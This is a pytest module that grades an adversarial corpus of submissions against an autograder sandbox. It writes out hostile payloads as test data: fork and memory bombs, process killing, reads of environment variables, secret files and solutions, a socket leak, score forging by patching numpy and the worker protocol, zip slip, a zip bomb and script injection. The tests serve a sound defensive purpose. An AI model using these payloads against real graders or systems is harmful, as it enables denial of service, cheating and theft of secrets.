"""The adversarial corpus: submissions written by an attacker, each graded end to end with the
default sandbox (the strongest that works here: ``bwrap`` where bubblewrap runs).

Contained means: the grader finishes within its limits, writes a result that says what
happened, awards no point the code did not earn, leaves no process and no file behind, and no
secret or hidden data reaches any output. Every attack is a tiny ``tapegrad`` package; the
grading is restricted to two op checks and a notebook check of hw1, which no attack
implements honestly, so any point awarded is a point not earned. The paths and the port an
attack aims at are the real ones of this test run, written into its source.
"""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import textwrap
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.config import load_assignment
from autograder.grading.channel import Limits
from autograder.grading.pipeline import GradeOptions, grade_submission
from autograder.grading.reports import write_reports
from autograder.grading.results import GradingResult
from autograder.grading.sandbox import LEVELS, make_sandbox
from autograder.paths import BUNDLED_MNIST, KIT_ROOT

SECRET = "s3cret-grader-key-0123456789abcdef"  # noqa: S105 (what must never leak)
FILE_SECRET = "file-secret-fedcba9876543210"  # noqa: S105
LIMITS = Limits(
    request_timeout=4.0, start_timeout=8.0, total_timeout=25.0, output_cap=8192, address_space=2**30
)
PARALLEL = 3
CHECKS = ("ops.add", "ops.mul", "notebook.numerical_derivative")
CHECK_TIMEOUT = 3.0  # seconds per request (the assignment's own are far longer)
WORKER_UIDS = range(1_000_000, 2_000_000)  # per-worker uids (bwrap and user levels, as root)
# What must reach no output: the secrets, another student's work, the assignment file and the
# solution (by a phrase each holds), the test labels (the start of the gzip file, as repr shows
# the bytes an attack read).
NEEDLES = (SECRET, FILE_SECRET, "OTHER_STUDENT_WORK", "public_seed", "BEGIN SOLUTION")
LABELS_GZIP = "\\x1f\\x8b"

HONEST_TENSOR = """
import numpy as _np
class Tensor:
    def __init__(self, data, requires_grad=False, dtype=None):
        self.data = _np.asarray(data, dtype=_np.float64); self.grad = None
    def numpy(self): return self.data
"""

TENSOR_WITH_ATTACK_IN_ADD = (
    HONEST_TENSOR
    + """
    def __add__(self, other):
        attack()
        return Tensor(self.data + other.data)
    __mul__ = __add__
"""
)


@dataclass(frozen=True)
class Attack:
    """One kind of attack: the source of its ``tapegrad/__init__.py`` (``{...}`` fields filled
    with this run's targets), or a builder of the whole submission (zips, notebooks)."""

    id: str
    source: str = ""
    build: Callable[[Path, dict[str, str]], Path] | None = None
    expect: str = ""  # a phrase the result's messages must contain (case-insensitive)


def _at_import(body: str) -> str:
    """A package whose import runs ``body``."""
    return HONEST_TENSOR + textwrap.dedent(body)


def _in_op(body: str) -> str:
    """A package whose ``a + b`` and ``a * b`` run ``body`` (inside a request, not at import)."""
    attack = "def attack():\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return attack + "\n" + TENSOR_WITH_ATTACK_IN_ADD


def _steal(paths: str) -> str:
    """A package that reads every file matching ``paths`` and raises with what it got: whatever
    it could read would reach the feedback."""
    return _at_import(READ_AND_RAISE.replace("{paths!r}", paths))


def _zip(members: dict[str, bytes], compress: bool = True) -> Callable[[Path, dict], Path]:
    def build(where: Path, targets: dict[str, str]) -> Path:
        path = where / "submission.zip"
        mode = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
        with zipfile.ZipFile(path, "w", mode) as z:
            for name, data in members.items():
                z.writestr(name, data)
        return path

    return build


def _zip_bomb(where: Path, targets: dict[str, str]) -> Path:
    path = where / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("tapegrad/__init__.py", "x = 1\n")
        with z.open("tapegrad/zeros.bin", "w", force_zip64=True) as out:
            block = bytes(2**20)
            for _ in range(1024):  # 1 GiB of zeros, about 1 MiB compressed
                out.write(block)
    return path


def _symlinks(where: Path, targets: dict[str, str]) -> Path:
    root = where / "links"
    (root / "tapegrad").mkdir(parents=True)
    for name, target in (("secret", targets["secret_file"]), ("labels", targets["labels"])):
        (root / "tapegrad" / name).symlink_to(target)
    (root / "tapegrad" / "__init__.py").write_text(
        _at_import(
            """
            import os
            here = os.path.dirname(__file__)
            found = [open(os.path.join(here, n), 'rb').read()[:200] for n in ('secret', 'labels')
                     if os.path.exists(os.path.join(here, n))]
            raise RuntimeError(f"leaked: {found!r}")
            """
        )
    )
    return root


def _notebook_only(text: str) -> Callable[[Path, dict], Path]:
    def build(where: Path, targets: dict[str, str]) -> Path:
        path = where / "hw1.ipynb"
        path.write_text(text)
        return path

    return build


READ_AND_RAISE = """
import glob, os
stolen = []
for path in {paths!r}:
    for p in glob.glob(path):
        try:
            stolen.append(open(p, 'rb').read()[:4000])
        except OSError as e:
            stolen.append(repr(e).encode())
raise RuntimeError("stolen: " + repr(stolen))
"""

ATTACKS: tuple[Attack, ...] = (
    # ---- resources ----------------------------------------------------------------------------
    Attack(
        "fork_bomb",
        _at_import("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
    ),
    Attack(
        "thread_bomb",
        _at_import("""
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    """),
    ),
    Attack(
        "memory_bomb",
        _at_import("""
        blocks = []
        while True:
            blocks.append(bytearray(2**28))
    """),
    ),
    Attack("loop_at_import", _at_import("while True:\n    pass\n"), expect="import"),
    Attack("loop_in_op", _in_op("while True:\n    pass"), expect="no answer"),
    Attack(
        "disk_flood",
        _in_op("""
        with open('/tmp/fill', 'wb') as f:
            while True:
                f.write(bytes(2**20))
    """),
    ),
    Attack(
        "inode_flood",
        _in_op("""
        import os
        os.makedirs('/tmp/n', exist_ok=True)
        for i in range(10**7):
            open(f'/tmp/n/{{i}}', 'w').close()
    """),
    ),
    Attack(
        "output_flood",
        _in_op("""
        import sys
        while True:
            sys.stderr.write('x' * 65536)
            print('y' * 65536)
    """),
    ),
    Attack(
        "deep_recursion",
        _in_op("""
        import sys
        sys.setrecursionlimit(10**8)
        def f(n):
            return f(n + 1) + 1
        f(0)
    """),
    ),
    Attack(
        "ignores_sigterm",
        _in_op("""
        import signal
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(s, signal.SIG_IGN)
        while True:
            pass
    """),
    ),
    # ---- escaping -----------------------------------------------------------------------------
    Attack(
        "network",
        _at_import("""
        import socket
        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
        s.sendall(b'LEAK')
    """),
    ),
    Attack(
        "write_outside",
        _at_import("""
        for p in {canaries!r}:
            try:
                open(p, 'w').write('owned')
            except OSError:
                pass
        raise RuntimeError('tried')
    """),
    ),
    Attack(
        "kill_parent",
        _at_import("""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
    """),
    ),
    Attack(
        "kill_everything",
        _at_import("""
        import os, signal
        for pid in range(1, 5000):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        raise RuntimeError('killed what I could')
    """),
    ),
    Attack("read_environ", _steal("['/proc/*/environ', '/proc/self/environ']")),
    Attack(
        "read_secret_file",
        _steal(
            "[{secret_file!r}, '/root/.config/tapegrad-kit/grader-secret',"
            " os.path.expanduser('~/.config/tapegrad-kit/grader-secret')]"
        ),
    ),
    Attack("read_test_labels", _steal("[{labels!r}, '/data/*', '/*/data/mnist-sample/t10k*']")),
    Attack("read_assignments", _steal("[{assignment!r}]")),
    Attack("read_solution", _steal("[{solution!r}]")),
    Attack(
        "read_other_submissions",
        _steal("[{other!r}, '/tmp/tapegrad-submission-*/*/tapegrad/*.py']"),
    ),
    Attack(
        "import_the_judges",
        _at_import("""
        import sys
        sys.path[:0] = {paths_to_grader!r}
        import autograder.grading.ops
        raise RuntimeError('imported the judges')
    """),
    ),
    Attack("symlinks", build=_symlinks),
    Attack(
        "detached_process",
        _at_import("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(4)
                for p in {canaries!r} + [{results!r}]:
                    try:
                        open(p, 'w').write('rewritten')
                    except OSError:
                        pass
                os._exit(0)
            os._exit(0)
        raise RuntimeError('left a process behind')
    """),
    ),
    # ---- forging ------------------------------------------------------------------------------
    Attack(
        "print_results",
        _at_import("""
        import json, sys
        print(json.dumps({{'score': 100, 'tests': []}}))
        sys.__stdout__.write('{{"score": 100}}')
    """),
    ),
    Attack(
        "write_results_json",
        _in_op("""
        for p in [{results!r}, '/autograder/results/results.json', 'results.json']:
            try:
                open(p, 'w').write('{{"score": 100}}')
            except OSError:
                pass
    """),
    ),
    Attack("exit_0_at_import", _at_import("import sys\nsys.exit(0)\n"), expect="import"),
    Attack("os_exit_0_at_import", _at_import("import os\nos._exit(0)\n"), expect="import"),
    Attack(
        "patch_numpy",
        _in_op("""
        import numpy
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.isfinite = lambda x: numpy.ones(numpy.shape(x), bool)
        numpy.abs = lambda x: numpy.zeros(numpy.shape(x))
    """),
    ),
    Attack(
        "patch_worker",
        _at_import("""
        import autograder.worker.loop as loop, autograder.worker.protocol as p
        real = p.encode_message
        def forged(header, arrays=()):
            return real({{**header, 'ok': True, 'score': 100}}, arrays)
        p.encode_message = forged
        loop.protocol.encode_message = forged
    """),
    ),
    Attack(
        "garbage_frames",
        _in_op("""
        import os
        for fd in range(3, 64):
            try:
                os.write(fd, b'\\xff' * 4096)
            except OSError:
                pass
    """),
    ),
    Attack(
        "oversized_frame",
        _in_op("""
        import os, struct
        for fd in range(3, 64):
            try:
                os.write(fd, b'TGW1' + struct.pack('>I', 2**31) + b'{{}}')
            except OSError:
                pass
    """),
    ),
    Attack(
        "html_injection",
        _in_op("""
        raise ValueError('<script>alert(1)</script><img src=x onerror=alert(2)> "q" \\x1b[31m')
    """),
    ),
    # ---- malformed submissions ----------------------------------------------------------------
    Attack(
        "zip_slip",
        build=_zip({"../../evil.py": b"x", "tapegrad/__init__.py": b""}),
        expect="unsafe path",
    ),
    Attack("zip_bomb", build=_zip_bomb, expect="larger than"),
    Attack("malformed_notebook", build=_notebook_only("{ not json"), expect="not a valid notebook"),
    Attack(
        "huge_notebook",
        build=_notebook_only('{"cells": [], "nbformat": 4, "x": "' + "a" * (60 * 2**20) + '"}'),
        expect="larger than",
    ),
)


# ---- the run --------------------------------------------------------------------------------


@dataclass
class Listener:
    """A TCP listener on loopback that records whatever reaches it."""

    port: int
    received: list[bytes]


# The corpus runs under every level that isolates and works here; never under ``none``, where
# a fork bomb or a kill-everything would hit this machine itself.
ISOLATING = [name for name in ("bwrap", "user") if LEVELS[name].available()]

# The user level (for containers that refuse namespaces) gives no view of the files of its
# own: it relies on file permissions, and the grading image keeps these root-only. In this
# checkout they are world-readable, so these attacks are not its to contain here.
NEEDS_PRIVATE_FILES = {"read_test_labels", "read_assignments", "read_solution", "import_the_judges"}


@pytest.fixture(scope="module", params=ISOLATING or [None])
def level(request: pytest.FixtureRequest) -> str:
    if request.param is None:
        pytest.skip("no isolating sandbox level works here (install bubblewrap): not run")
    return str(request.param)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield Listener(server.getsockname()[1], received)
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def graded(
    tmp_path_factory: pytest.TempPathFactory, listener: Listener, level: str
) -> dict[str, tuple[GradingResult, Path, dict[str, str], float]]:
    """Every attack graded under ``level`` (in parallel), with its reports written."""
    root = tmp_path_factory.mktemp(f"adversarial-{level}")
    secret_file = root / "grader-secret"
    secret_file.write_text(FILE_SECRET)
    other = root / "other-submission" / "tapegrad"
    other.mkdir(parents=True)
    (other / "__init__.py").write_text("OTHER_STUDENT_WORK = 'private'\n")
    hw1 = load_assignment("hw1", KIT_ROOT)
    checks = tuple(
        dataclasses.replace(c, timeout=CHECK_TIMEOUT) for c in hw1.checks if c.id in CHECKS
    )
    assignment = dataclasses.replace(hw1, checks=checks, time_limit=30.0)
    jobs = {}
    for attack in ATTACKS:
        where = root / attack.id
        where.mkdir()
        out = where / "out"
        targets = {
            "port": str(listener.port),
            "canaries": [str(where / "canary"), str(KIT_ROOT / f"canary-{attack.id}")],
            "results": str(out / "results.json"),
            "secret_file": str(secret_file),
            "labels": str(BUNDLED_MNIST / "t10k-labels-idx1-ubyte.gz"),
            "assignment": str(KIT_ROOT / "assignments" / "hw1" / "assignment.toml"),
            "solution": str(KIT_ROOT / "solution" / "tapegrad" / "ops.py"),
            "other": str(other / "__init__.py"),
            "paths_to_grader": [str(KIT_ROOT), str(KIT_ROOT / "autograder" / "..")],
        }
        if attack.build is not None:
            submission = attack.build(where, targets)
        else:
            submission = where / "submission"
            (submission / "tapegrad").mkdir(parents=True)
            source = attack.source.format(**targets)
            (submission / "tapegrad" / "__init__.py").write_text(source)
        jobs[attack.id] = (submission, out, targets)
    options = GradeOptions(limits=LIMITS, sandbox=level)
    mp = pytest.MonkeyPatch()
    mp.setenv("GRADER_SECRET", SECRET)
    mp.setenv("GRADER_SECRET_FILE", str(secret_file))

    def run(key: str) -> tuple[GradingResult, Path, dict[str, str], float]:
        submission, out, targets = jobs[key]
        start = time.monotonic()
        result = grade_submission(submission, assignment, options)
        write_reports(result, out)
        return result, out, targets, time.monotonic() - start

    try:
        with ThreadPoolExecutor(PARALLEL) as pool:
            futures = {key: pool.submit(run, key) for key in jobs}
            results = {key: f.result() for key, f in futures.items()}
    finally:
        mp.undo()
    time.sleep(5)  # a detached process would have written its canary by now
    return results


def _text(result: GradingResult) -> str:
    parts = [result.error or ""]
    for c in result.checks:
        parts += [c.error or "", *(k.message for k in c.cases)]
    return "\n".join(parts).lower()


def test_the_default_sandbox_is_the_strongest_here() -> None:
    if not ISOLATING:
        pytest.skip("no isolating sandbox level works here")
    assert make_sandbox(None).level == ISOLATING[0]


def test_the_corpus_is_large_enough() -> None:
    assert len(ATTACKS) >= 30
    assert len({a.id for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.id)
def test_attack_is_contained(
    attack: Attack,
    graded: dict[str, tuple[GradingResult, Path, dict[str, str], float]],
    level: str,
) -> None:
    if level == "user" and attack.id in NEEDS_PRIVATE_FILES:
        pytest.skip("the user level relies on file permissions, which the grading image sets")
    result, out, targets, seconds = graded[attack.id]
    # the grader finished within its limits and wrote a result that says what happened
    assert seconds < 60, seconds
    assert (out / "results.json").is_file()
    assert result.checks and all(c.error or c.cases for c in result.checks)
    # no point the code did not earn
    assert result.score == 0, [(c.id, c.score) for c in result.checks]
    if attack.expect:
        assert attack.expect in _text(result), _text(result)[:2000]
    # nothing written outside, nothing rewritten afterwards
    for canary in targets["canaries"]:
        assert not Path(canary).exists(), canary
    written = (out / "results.json").read_text()
    assert "rewritten" not in written and '{"score": 100}' != written.strip()
    assert json.loads(written)["score"] == 0  # still valid JSON, whatever the messages held
    # no secret, no hidden data in any output
    for path in out.iterdir():
        text = path.read_text(errors="replace")
        for needle in (*NEEDLES, LABELS_GZIP):
            assert needle not in text, (path.name, needle)
    assert "<script>" not in (out / "report.html").read_text()


def test_nothing_reached_the_network(
    graded: dict[str, tuple[GradingResult, Path, dict[str, str], float]],
    listener: Listener,
) -> None:
    assert listener.received == []


def test_no_worker_process_survives(
    graded: dict[str, tuple[GradingResult, Path, dict[str, str], float]],
) -> None:
    """Every process the submissions started (forks, threads, detached daemons) is gone."""
    if os.getuid() != 0:
        pytest.skip("per-worker uids are the isolating levels' when run as root")
    survivors = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid in WORKER_UIDS:
                    survivors.append(entry.name)
            except OSError:
                pass
    described = {}
    for pid in survivors:
        try:
            described[pid] = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")[:200]
        except OSError:
            pass
    assert not described, described


def test_the_grader_is_alive_and_its_files_are_intact() -> None:
    assert os.getppid() > 1
    assert (KIT_ROOT / "solution" / "tapegrad" / "ops.py").is_file()
    assert not list(KIT_ROOT.glob("canary-*"))


def test_kill_parent_left_this_process_running(
    graded: dict[str, tuple[GradingResult, Path, dict[str, str], float]],
) -> None:
    result = graded["kill_parent"][0]
    assert result.checks and result.score == 0
    os.kill(os.getpid(), 0)  # still here
